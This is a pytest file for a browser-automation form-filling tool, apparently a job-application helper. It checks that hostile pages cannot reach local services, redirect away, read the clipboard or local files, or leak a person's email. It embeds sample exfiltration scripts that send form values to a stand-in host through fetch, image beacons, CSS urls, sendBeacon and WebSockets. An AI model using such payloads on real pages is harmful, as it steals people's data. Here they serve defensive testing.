"""A45 to A48: what the driven browser must never do, whatever the page asks of it."""

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest
from websockets.asyncio.server import ServerConnection, serve
from websockets.exceptions import ConnectionClosedError

from companion.apply import Chrome, hands
from companion.store import Store
from tests.ats.hostile import Hostile
from tests.ats.road import apply, opened, prepare, side_by_side


@contextmanager
def neighbour() -> Iterator[tuple[str, list[str]]]:
    """Another program on this computer (the companion itself, Ollama, a debugging port) and what it was asked."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def do_OPTIONS(self) -> None:
            self.do_GET()

        def log_message(self, *_: object) -> None:
            """Quiet."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()
    server.server_close()
    thread.join()


REACHES = {
    "fetch": "fetch('TARGET/v1', {mode: 'no-cors'})",
    "post": "fetch('TARGET/v1', {method: 'POST', mode: 'no-cors', body: 'x'})",
    "beacon": "navigator.sendBeacon('TARGET/b', 'x')",
    "image": "new Image().src = 'TARGET/i'",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'TARGET/f'}))",
    "redirect": "fetch('/away?to=' + encodeURIComponent('TARGET/r'), {mode: 'no-cors'})",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('TARGET/w', {mode: 'no-cors'})\"])))",
    "socket": "new WebSocket('TARGET/s'.replace('http', 'ws'))",
    "stylesheet": "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=TARGET/c>')",
    "stream": "new EventSource('TARGET/e')",
    "shared-worker": "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('TARGET/k', {mode: 'no-cors'})\"])))",
    "imported": "new Worker(URL.createObjectURL(new Blob([\"importScripts('TARGET/m')\"])))",
    "object": "document.body.append(Object.assign(document.createElement('object'), {data: 'TARGET/o'}))",
    "decimal": "fetch('TARGET/d'.replace('127.0.0.1', '2130706433'), {mode: 'no-cors'}).catch(() => {})",
    "service-worker": "navigator.serviceWorker?.register('/apply').catch(() => {})",
    "prefetch": "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=TARGET/p>')",
}


async def test_nothing_else_on_this_computer_is_reached(store: Store, chrome: Chrome) -> None:
    with neighbour() as (origin, asked), Hostile(";".join(REACHES.values()).replace("TARGET", origin)) as clone:
        attempt = await apply(clone, store, chrome)
        assert asked == []
        assert (attempt.state, len(clone.submissions)) == ("submitted", 1)


async def test_the_neighbour_is_reached_where_nothing_stands_in_the_way(store: Store, chrome: Chrome) -> None:
    """The test above can fail: with the neighbour's origin allowed, the same page reaches it."""
    with neighbour() as (origin, asked), Hostile(REACHES["image"].replace("TARGET", origin)) as clone:
        chrome.allowed.add(origin)
        await prepare(clone, store, chrome)
        chrome.allowed.discard(origin)
        assert asked == ["GET /i"]


LEAVES = {
    "navigates": "location.href = 'TARGET/next'",
    "form-action": "document.forms[0].action = 'TARGET/take'; setTimeout(() => document.forms[0].submit(), 50)",
    "redirect": "location.href = '/away?to=' + encodeURIComponent('TARGET/landed')",
}


async def test_a_page_that_moves_to_another_site_after_filling_is_left(tmp_path: Path, chrome: Chrome) -> None:
    async def leave(name: str, script: str) -> None:
        with neighbour() as (origin, asked), Hostile(script.replace("TARGET", origin)) as clone:
            chrome.allowed.add(origin)
            async with opened(tmp_path / name) as store:
                attempt = await apply(clone, store, chrome)
            chrome.allowed.discard(origin)
            assert [one for one in asked if "POST" in one or "/next" in one] == [], name
            assert attempt.state == "needs_answers", name
            assert "another site" in attempt.problem, name
            assert attempt.screenshots, name
            assert clone.submissions == [], name

    await side_by_side(leave, LEAVES)


async def test_a_page_that_runs_in_circles_is_given_up(
    store: Store, chrome: Chrome, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(hands, "_FILL_WAIT", 2.0)
    with Hostile("for (;;);") as clone:
        attempt = await prepare(clone, store, chrome)
        assert (attempt.state, attempt.problem) == ("needs_answers", "The page does not answer any more.")


ODD = {
    "download": "location.href = '/file.zip'",
    "popup": "for (let n = 0; n < 5; n++) window.open('/apply')",
    "blob": "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'x';"
    "document.body.append(a); a.click()",
    "mail": "location.href = 'mailto:someone@example.com'",
    "print": "window.print()",
    "dialog": "alert('stop'); confirm('sure?'); prompt('why?')",
    "beforeunload": "window.onbeforeunload = (event) => { event.preventDefault(); return 'stay'; }",
    "basic-auth": "fetch('/secret')",
    "file": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'file:///etc/hostname'}))",
    "permissions": "navigator.geolocation.getCurrentPosition(() => {}); Notification.requestPermission()",
    "clipboard": "navigator.clipboard.readText().catch(() => {})",
}


async def test_what_pages_try_is_denied_and_the_run_ends(tmp_path: Path, chrome: Chrome) -> None:
    async def odd(name: str, script: str) -> None:
        with Hostile(script) as clone:
            async with opened(tmp_path / name) as store:
                attempt = await apply(clone, store, chrome)
            assert (name, attempt.state, attempt.problem) == (name, "submitted", "")
            assert len(clone.submissions) == 1

    await side_by_side(odd, ODD)


async def test_a_persons_values_do_not_leave_for_a_stranger(store: Store, chrome: Chrome) -> None:
    steal = (
        "const v = document.querySelector('[name=email]').value;"
        "fetch('TARGET/steal', {method: 'POST', mode: 'no-cors', body: 'e=' + encodeURIComponent(v)});"
        "new Image().src = 'TARGET/px?e=' + encodeURIComponent(v);"
        "new Image().src = 'TARGET/' + encodeURIComponent(v) + '/px';"
        "document.body.insertAdjacentHTML('beforeend', `<style>body{background:url(TARGET/c?e=${v})}</style>`);"
        "navigator.sendBeacon('TARGET/b', JSON.stringify({v}))"
    )
    with neighbour() as (origin, asked), Hostile(steal.replace("TARGET", origin)) as clone:
        chrome.allowed.add(origin)
        attempt = await apply(clone, store, chrome)
        chrome.allowed.discard(origin)
        assert asked == []
        assert attempt.state == "submitted"


async def test_a_persons_values_do_not_leave_through_a_socket(store: Store, chrome: Chrome) -> None:
    heard: list[str | bytes] = []

    async def listen(connection: ServerConnection) -> None:
        with suppress(ConnectionClosedError):  # the page goes away without a word
            async for words in connection:
                heard.append(words)  # noqa: PERF401 - each as it comes: the end of it is an error

    async with serve(listen, "127.0.0.1", 0) as server:
        origin = f"ws://127.0.0.1:{next(iter(server.sockets)).getsockname()[1]}"
        tell = (
            "const s = new WebSocket('ORIGIN'); s.onopen = () => { s.send('hello');"
            "s.send(JSON.stringify({e: document.querySelector('[name=email]').value})); s.send('bye') }"
        )
        with Hostile(tell.replace("ORIGIN", origin)) as clone:
            chrome.allowed.add(origin)
            attempt = await apply(clone, store, chrome)
            chrome.allowed.discard(origin)
    assert (attempt.state, set(heard)) == ("submitted", {"hello", "bye"})


async def test_what_one_form_keeps_the_next_never_sees_and_nothing_stays_open(chrome: Chrome) -> None:
    keep = "document.cookie = 'who=1'; localStorage.who = '1'; sessionStorage.who = '1'"
    with Hostile("") as clone:
        chrome.allowed.update(clone.allowed)
        async with chrome.tab() as first, chrome.tab() as second:
            for tab in (first, second):
                await tab.page.goto(clone.url)
            await first.page.evaluate(keep)
            seen = await second.page.evaluate("[document.cookie, localStorage.who, sessionStorage.who].join()")
            assert seen == ",,"
            contexts = second.page.context.browser
            assert contexts is not None
        async with chrome.tab() as third:
            await third.page.goto(clone.url)
            assert await third.page.evaluate("[document.cookie, localStorage.who].join()") == ","
            assert contexts.contexts == [third.page.context]
